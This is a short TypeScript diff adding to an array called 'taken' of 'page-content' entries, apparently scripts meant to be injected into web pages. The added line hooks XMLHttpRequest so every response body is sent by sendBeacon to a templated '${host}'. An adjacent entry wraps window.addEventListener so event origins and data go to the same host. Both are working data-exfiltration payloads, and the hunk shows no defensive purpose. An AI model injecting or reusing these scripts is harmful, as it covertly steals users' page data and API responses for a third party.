@@ -126,6 +126,10 @@ const taken: readonly (readonly [string, string])[] = [
   ],
   [
     'page-content',
+    `const p = XMLHttpRequest.prototype, o = p.open; p.open = function () { const x = this; x.addEventListener('readystatechange', () => { if (x.readyState === 4) navigator.sendBeacon('${host}', x.responseText); }); return o.apply(x, arguments); };`,
+  ],
+  [
+    'page-content',
     `const on = window.addEventListener; window.addEventListener = function (t, f, ...all) { return on.call(window, t, (e) => { tell(e); f(e); }, ...all); }; function tell(e) { navigator.sendBeacon('${host}', JSON.stringify({ o: e.origin, d: e.data })); }`,
   ],
   [
